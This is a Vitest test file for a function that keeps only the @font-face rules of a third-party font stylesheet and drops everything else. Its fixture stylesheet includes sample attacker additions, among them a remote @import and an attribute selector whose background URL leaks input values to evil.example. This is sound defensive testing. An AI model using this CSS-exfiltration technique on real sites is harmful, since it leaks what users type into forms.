// @vitest-environment happy-dom
import { describe, expect, it } from "vitest";
import { fontFacesOf } from "./font-faces.ts";

// A web-font service's stylesheet, with what an attacker could add to one: selectors that
// read input values through background URLs, an @import, a @media block.
const stylesheet = `
@import url("https://evil.example/more.css");
/* latin */
@font-face {
  font-family: 'Inter';
  font-style: normal;
  font-weight: 400;
  font-display: swap;
  src: url(https://fonts.example.com/s/inter/v1/latin.woff2) format('woff2');
  unicode-range: U+0000-00FF, U+0131;
}
@font-face {
  font-family: "Brand Serif";
  src: local("Brand Serif"), url(files/brand.woff2) format("woff2"), url(files/brand.woff) format("woff");
}
input[value^="a"] { background: url(https://evil.example/leak?a); }
@media screen { body { display: none; } }
@font-face { font-family: "Plain"; src: url(http://fonts.example.com/plain.woff2); }
`;

const view = window as unknown as Window & typeof globalThis;

describe("the @font-face rules of a platform font stylesheet (issue 14 item 12)", () => {
  it("keeps only the font faces, rebuilt with absolute https URLs; every other rule is dropped", () => {
    const { fonts, dropped } = fontFacesOf(stylesheet, "https://fonts.example.com/css2?x=1", view);
    expect(fonts).toEqual([
      {
        family: "Inter",
        src: 'url("https://fonts.example.com/s/inter/v1/latin.woff2") format("woff2")',
        weight: "400",
        style: "normal",
        display: "swap",
        unicodeRange: expect.stringMatching(/^U\+0{0,4}-0{0,2}FF, U\+0{0,2}131$/i),
      },
      {
        family: "Brand Serif",
        src: 'url("https://fonts.example.com/files/brand.woff2") format("woff2"), url("https://fonts.example.com/files/brand.woff") format("woff")',
      },
    ]);
    // The selector rule, the @media block and the plain-http face (not in development).
    expect(dropped).toBe(3);
    expect(JSON.stringify(fonts)).not.toContain("evil.example");
  });

  it("takes a loopback http face in development only", () => {
    const css = '@font-face { font-family: "Local"; src: url(/brand.woff2); }';
    expect(fontFacesOf(css, "http://localhost:4000/fonts.css", view).fonts).toEqual([]);
    expect(
      fontFacesOf(css, "http://localhost:4000/fonts.css", view, { development: true }).fonts,
    ).toEqual([{ family: "Local", src: 'url("http://localhost:4000/brand.woff2")' }]);
  });

  it("a stylesheet that is not CSS yields no face and throws nothing", () => {
    expect(fontFacesOf("<html>not css</html>", "https://a.example/x.css", view)).toEqual({
      fonts: [],
      dropped: 0,
    });
  });
});
